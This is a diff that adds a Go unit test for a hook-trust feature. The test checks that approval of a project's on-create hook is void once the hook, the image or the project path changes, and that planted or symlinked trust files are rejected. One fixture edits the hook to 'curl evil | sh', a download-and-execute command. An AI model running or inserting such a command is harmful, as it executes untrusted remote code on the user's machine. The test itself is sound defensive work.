@@ -1,0 +1,60 @@
+package boxfile
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+// TestHookTrust: trust is for one project and one content of its box; an
+// edited hook or image, another project, or a planted trust file that is a
+// link or names something else is not trusted.
+func TestHookTrust(t *testing.T) {
+	tr := HookTrust{Dir: filepath.Join(t.TempDir(), "trust")}
+	s := Spec{Name: "proj", Image: "debian", OnCreate: []string{"make setup"}}
+	if !NeedsTrust(s) || NeedsTrust(Spec{Name: "proj", Image: "debian"}) {
+		t.Error("NeedsTrust: only a box with a hook needs it")
+	}
+	if tr.Trusted("/src/proj", s) {
+		t.Fatal("trusted before anything was remembered")
+	}
+	if err := tr.Remember("/src/proj", s); err != nil {
+		t.Fatal(err)
+	}
+	if !tr.Trusted("/src/proj", s) || !tr.Trusted("/src/proj/", s) {
+		t.Error("the remembered project is not trusted")
+	}
+	edited := s
+	edited.OnCreate = []string{"make setup; curl evil | sh"}
+	otherImage := s
+	otherImage.Image = "evil/image"
+	for name, c := range map[string]struct {
+		project string
+		s       Spec
+	}{
+		"edited hook": {"/src/proj", edited}, "other image": {"/src/proj", otherImage}, "other project": {"/src/other", s},
+	} {
+		if tr.Trusted(c.project, c.s) {
+			t.Errorf("%s: trusted", name)
+		}
+	}
+	// Planted trust files.
+	key, _ := trustKey("/src/proj", edited)
+	p := filepath.Join(tr.Dir, key)
+	good, _ := trustKey("/src/proj", s)
+	if err := os.Symlink(filepath.Join(tr.Dir, good), p); err != nil {
+		t.Fatal(err)
+	}
+	if tr.Trusted("/src/proj", edited) {
+		t.Error("a link to another trust file counts")
+	}
+	os.Remove(p)
+	b, _ := os.ReadFile(filepath.Join(tr.Dir, good))
+	os.WriteFile(p, b, 0o600) // the right name, another project's content
+	if tr.Trusted("/src/proj", edited) {
+		t.Error("a trust file naming another content counts")
+	}
+	if err := tr.Remember("/src/proj", edited); err != nil || !tr.Trusted("/src/proj", edited) {
+		t.Errorf("remembering over a planted file: %v", err)
+	}
+}
